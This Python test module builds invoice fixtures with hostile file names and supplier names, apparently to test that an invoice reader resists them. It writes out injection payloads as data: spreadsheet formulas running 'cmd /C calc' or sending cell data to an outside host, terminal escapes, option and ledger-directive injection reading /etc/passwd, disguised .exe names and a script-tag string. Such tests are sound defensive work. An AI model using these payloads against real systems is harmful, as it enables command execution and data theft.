"""Foreign text that means something to whoever shows or stores it: file names, supplier names."""

import os
from random import Random
from typing import Final

from examples.einvoices.ubl import write_ubl
from examples.hostile.outcomes import READ, Q, around, quarantined, sound_invoice
from examples.layouts.columns import draw_two_columns
from examples.plain import write_text
from examples.truth import Example

FILE_NAMES: Final = {
    "a line break": "two\nlines.txt",
    "a carriage return": "over\rwritten.txt",
    "terminal escapes": "\x1b]0;owned\x07\x1b[2J\x1b[31mred.txt",
    "console markup": "[bold red]loud[not closed.txt",
    "an option": "--data-dir=elsewhere.txt",
    "a formula": "=HYPERLINK(1).txt",
    "direction marks": "invoice\u202etxt.exe",
    "no UTF-8": os.fsdecode(b"caf\xe9.txt"),
    "blanks": "  .txt ",
}
"""Names that a folder can hold, by what is wrong with them."""

SUPPLIERS: Final = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"Invoice")',
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "directive": '2026-01-01 open Assets:Thieves "GBP"',
    "option": 'option "title" "owned"',
    "include": "include /etc/passwd",
    "quotes": 'Quote" ; "Semicolon; #tag ^link \\',
    "lines": '\n2026-01-01 * "x"\n  Assets:Bank  -1 GBP\n  Expenses:Thieves  1 GBP\n',
    "markup": "[link=http://x.example]Ltd[/link] <script>alert(1)</script>",
    "marks": "Acme\u202e\u200b\u0085\u2028Ltd",
}
"""Supplier names by what they attack."""


def hostile_names() -> list[Example]:
    """Return sound invoices with hostile file names or supplier names."""
    examples = []
    for serial, (wrong, name) in enumerate(FILE_NAMES.items(), 950):
        invoice = sound_invoice(serial)
        about = f"a file name with {wrong}"
        examples.append(around(invoice, name, write_text(invoice), about, *READ))
    for serial, (wrong, supplier) in enumerate(SUPPLIERS.items(), 970):
        invoice = sound_invoice(serial, "IE", supplier)
        about = f"a supplier name that attacks: {wrong}"
        examples.append(around(invoice, f"name-{wrong}.xml", write_ubl(invoice), about, *READ))
    for wrong in ("formula", "directive", "option"):
        invoice = sound_invoice(990 + len(wrong), "GB", SUPPLIERS[wrong])
        page = draw_two_columns(invoice, Random(990))
        about = f"a supplier name on a page that attacks: {wrong}"
        examples.append(around(invoice, f"name-{wrong}.pdf", page, about, *READ))
    escapes = sound_invoice(998, "GB", "\x1b]0;owned\x07\x1b[2J\x1b[31mRed Ltd")
    about = "terminal escapes in plain text"
    ends = (*quarantined(Q.UNSUPPORTED_TYPE), *READ)  # with control characters it is no plain text
    examples.append(around(escapes, "name-escapes.txt", write_text(escapes), about, *ends))
    return examples
